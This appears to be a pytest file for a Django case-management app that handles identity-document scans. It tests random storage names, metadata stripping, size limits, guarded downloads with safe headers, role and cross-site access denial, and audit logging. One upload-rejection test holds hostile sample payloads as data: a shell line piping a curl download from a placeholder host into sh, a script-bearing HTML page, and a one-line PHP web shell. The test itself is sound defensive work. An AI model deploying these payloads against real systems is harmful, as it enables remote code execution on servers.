"""Documents and their scans, through the pages: checked uploads, random names, the guarded download."""

from __future__ import annotations

import re
from collections.abc import Callable
from datetime import date, timedelta
from io import BytesIO
from pathlib import Path
from typing import Any

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.test import Client
from django.utils import timezone, translation
from django_scopes import scope
from PIL import Image, PngImagePlugin

from percorsi.core.models import Site
from percorsi.people.models import IdentityDocument, Person
from percorsi.people.uploads import MAX_UPLOAD_BYTES
from tests.helpers import page_text, shows
from tests.people.conftest import audit_entries, pdf_bytes, png_bytes, stored_files, url

RANDOM_NAME = re.compile(r"^documents/\d{4}/\d{2}/[0-9a-f]{32}\.(png|pdf|jpg)$")


@pytest.fixture
def media(settings: Any) -> Path:
    return Path(settings.MEDIA_ROOT)


@pytest.fixture
def client(client_for: Callable[[str], Client]) -> Client:
    return client_for("operator_a")


@pytest.fixture
def person(site_a: Site, make_person: Callable[..., Person]) -> Person:
    return make_person(site_a, "Fatoumata", "Diallo", nationality="GN")


def documents(person: Person) -> list[IdentityDocument]:
    with scope(site=person.site):
        return list(IdentityDocument.objects.filter(person=person))


def post_document(
    client: Client, person: Person, scan: SimpleUploadedFile | None = None, **fields: str
) -> Any:
    data: dict[str, Any] = {
        "kind": "passport",
        "number": "GN1234567",
        "issuer": "République de Guinée",
        "issued_on": "2022-03-01",
        "expires_on": "2032-03-01",
    }
    data.update(fields)
    if scan is not None:
        data["scan_file"] = scan
    return client.post(url("document_add", person.site, pk=person.pk), data)


def with_metadata_png() -> bytes:
    """A PNG carrying a text chunk with the place it was taken: re-encoding must drop it."""
    info = PngImagePlugin.PngInfo()
    info.add_text("Location", "Via Prenestina 45, Roma")
    out = BytesIO()
    Image.new("RGB", (50, 30), "orange").save(out, format="PNG", pnginfo=info)
    return out.getvalue()


def test_a_png_scan_is_stored_under_a_random_name(
    client: Client, site_a: Site, person: Person, media: Path
) -> None:
    original = with_metadata_png()
    response = post_document(
        client, person, SimpleUploadedFile("passaporto fatoumata.png", original, "image/png")
    )

    assert response.status_code == 302
    [document] = documents(person)
    assert (document.kind, document.number, document.scan_content_type) == (
        "passport",
        "GN1234567",
        "image/png",
    )
    assert RANDOM_NAME.match(document.scan.name), document.scan.name
    assert "fatoumata" not in document.scan.name
    assert stored_files(media) == [document.scan.name]
    stored = (media / document.scan.name).read_bytes()
    assert stored.startswith(b"\x89PNG")
    assert b"Prenestina" in original
    assert b"Prenestina" not in stored  # re-encoded without metadata
    assert document.scan_size == len(stored)
    # Not in a static folder: only reachable through the guarded view.
    assert "static" not in str(media)
    [added] = audit_entries("people.document.added")
    assert added.data == {"person": person.pk, "scan": True}


def test_a_pdf_scan_is_stored(client: Client, person: Person, media: Path) -> None:
    response = post_document(
        client, person, SimpleUploadedFile("permesso.pdf", pdf_bytes(), "application/pdf"), kind="permit"
    )
    assert response.status_code == 302
    [document] = documents(person)
    assert document.scan.name.endswith(".pdf")
    assert RANDOM_NAME.match(document.scan.name)
    assert stored_files(media) == [document.scan.name]


def test_a_document_without_a_scan(client: Client, person: Person, media: Path) -> None:
    response = post_document(client, person, kind="health_card", number="80380001200123456789")
    assert response.status_code == 302
    [document] = documents(person)
    assert not document.scan
    assert stored_files(media) == []


def test_expiry_before_issue_is_refused_and_nothing_is_stored(
    client: Client, person: Person, media: Path
) -> None:
    response = post_document(
        client,
        person,
        SimpleUploadedFile("scan.png", png_bytes(), "image/png"),
        issued_on="2024-01-01",
        expires_on="2023-01-01",
    )
    assert response.status_code == 400
    assert shows(response, "The expiry date is before the issue date.")
    assert documents(person) == []
    assert stored_files(media) == []


def _kind_message(response: Any, kind: str) -> str:
    with translation.override(response["Content-Language"]):
        return translation.gettext("Only PDF, JPEG or PNG files can be uploaded; this file is %(kind)s.") % {
            "kind": translation.gettext(kind)
        }


@pytest.mark.parametrize(
    ("name", "content", "kind"),
    [
        ("permesso.pdf", b"#!/bin/sh\ncurl http://example.invalid/x | sh\n", "a script"),
        (
            "foto.png",
            b"<!DOCTYPE html><html><script>alert(1)</script></html>",
            "a web page (HTML) or other markup",
        ),
        ("scan.pdf", b"<?php system($_GET['c']); ?>", "a script"),
    ],
    ids=["script-named-pdf", "html-named-png", "php-named-pdf"],
)
def test_a_disguised_file_is_refused_and_nothing_is_stored(
    client: Client, person: Person, media: Path, name: str, content: bytes, kind: str
) -> None:
    declared = "application/pdf" if name.endswith(".pdf") else "image/png"
    response = post_document(client, person, SimpleUploadedFile(name, content, declared))

    assert response.status_code == 400
    assert _kind_message(response, kind) in page_text(response)
    assert documents(person) == []
    assert stored_files(media) == []
    assert audit_entries("people.document.added") == []


def test_a_file_over_10_mb_is_refused_and_nothing_is_stored(
    client: Client, person: Person, media: Path
) -> None:
    big = b"%PDF-1.7\n" + b"0" * MAX_UPLOAD_BYTES
    response = post_document(client, person, SimpleUploadedFile("big.pdf", big, "application/pdf"))

    assert response.status_code == 400
    with translation.override(response["Content-Language"]):
        message = translation.gettext(
            "The file is larger than %(megabytes)d MB: scan it at a lower resolution or split it into "
            "several files."
        ) % {"megabytes": 10}
    assert message in page_text(response)
    assert documents(person) == []
    assert stored_files(media) == []


# --- The scan view -------------------------------------------------------------------------------


@pytest.fixture
def scanned(person: Person, add_document: Callable[..., IdentityDocument]) -> IdentityDocument:
    return add_document(person, kind="passport", number="GN7654321", scan=png_bytes())


def scan_url(document: IdentityDocument, site: Site | None = None) -> str:
    return url("document_scan", site or document.site, pk=document.person_id, document_id=document.pk)


@pytest.mark.parametrize("persona", ["operator_a", "coordinator_a"])
def test_the_scan_is_served_to_sensitive_roles_with_safe_headers(
    client_for: Callable[[str], Client], scanned: IdentityDocument, media: Path, persona: str
) -> None:
    response = client_for(persona).get(scan_url(scanned))
    assert response.status_code == 200
    # Reading the content to the end closes the file (as the test client does, without closing the
    # database connection, which a second close() would do on PostgreSQL).
    body = b"".join(response.streaming_content)
    assert body == (media / scanned.scan.name).read_bytes()
    assert response["Content-Type"] == "image/png"
    assert "no-store" in response["Cache-Control"]
    assert response["X-Content-Type-Options"] == "nosniff"
    assert "sandbox" in response["Content-Security-Policy"]
    assert "inline" in response["Content-Disposition"]
    assert scanned.scan.name.rsplit("/", 1)[-1] not in response["Content-Disposition"]
    [downloaded] = audit_entries("people.document.downloaded")
    assert downloaded.object_id == str(scanned.pk)
    assert downloaded.site_id == scanned.site_id
    assert downloaded.data == {"person": scanned.person_id}


def test_the_scan_as_a_download(client: Client, scanned: IdentityDocument) -> None:
    response = client.get(scan_url(scanned), {"download": "1"})
    assert b"".join(response.streaming_content).startswith(b"\x89PNG")
    assert response.status_code == 200
    assert response["Content-Disposition"].startswith("attachment")
    assert f"document-{scanned.pk}.png" in response["Content-Disposition"]


@pytest.mark.parametrize("persona", ["volunteer_a", "teacher_a"])
def test_roles_without_people_sensitive_get_403(
    client_for: Callable[[str], Client], scanned: IdentityDocument, persona: str
) -> None:
    response = client_for(persona).get(scan_url(scanned))
    assert response.status_code == 403
    assert audit_entries("people.document.downloaded") == []
    [denied] = audit_entries("core.permission.denied")
    assert denied.outcome == "denied"


def test_another_site_gets_404_and_the_attempt_is_audited_under_roma(
    client_for: Callable[[str], Client], site_a: Site, site_b: Site, scanned: IdentityDocument
) -> None:
    other = client_for("operator_b")
    # Through its own site's address: the person is not there.
    response = other.get(scan_url(scanned, site_b))
    assert response.status_code == 404
    [attempt] = audit_entries("people.person.accessed")
    assert (attempt.outcome, attempt.site_id, attempt.object_id) == (
        "denied",
        site_a.pk,
        str(scanned.person_id),
    )
    assert attempt.data == {"from_site": site_b.pk}
    # Through Roma's address: no membership there.
    response = other.get(scan_url(scanned, site_a))
    assert response.status_code == 404
    [site_attempt] = audit_entries("core.site.accessed")
    assert (site_attempt.outcome, site_attempt.site_id) == ("denied", site_a.pk)
    assert audit_entries("people.document.downloaded") == []


def test_a_document_of_another_person_is_404(
    client: Client,
    site_a: Site,
    scanned: IdentityDocument,
    make_person: Callable[..., Person],
) -> None:
    someone_else = make_person(site_a, "Ousmane", "Bah", sex="M")
    response = client.get(url("document_scan", site_a, pk=someone_else.pk, document_id=scanned.pk))
    assert response.status_code == 404


def test_the_case_file_links_the_scan_only_through_the_view(
    client: Client, site_a: Site, scanned: IdentityDocument
) -> None:
    text = page_text(client.get(url("detail", site_a, pk=scanned.person_id)))
    assert scan_url(scanned) in text
    assert scanned.scan.name not in text
    assert "/media/" not in text


# --- No longer current ---------------------------------------------------------------------------


def test_mark_as_no_longer_current_keeps_the_document(
    client: Client, site_a: Site, person: Person, add_document: Callable[..., IdentityDocument]
) -> None:
    soon = timezone.localdate() + timedelta(days=20)
    old = add_document(
        person, kind="passport", number="GN0000001", issued_on=date(2015, 1, 1), expires_on=soon
    )
    detail = url("detail", site_a, pk=person.pk)
    assert 'class="alert alert-warning" role="alert"' in client.get(detail).content.decode()

    response = client.post(url("document_replace", site_a, pk=person.pk, document_id=old.pk))

    assert response.status_code == 302
    [kept] = documents(person)
    assert kept.pk == old.pk
    assert kept.replaced_at is not None
    page = client.get(detail)
    text = page_text(page)
    assert "GN0000001" in text
    assert shows(page, "no longer current")
    assert shows(page, "The document is marked as no longer current.")
    # No longer current: no longer expiring.
    assert 'class="alert alert-warning" role="alert"' not in page.content.decode()
    assert len(audit_entries("people.document.replaced")) == 1
    # Twice is nothing to do.
    again = client.post(url("document_replace", site_a, pk=person.pk, document_id=old.pk))
    assert again.status_code == 404
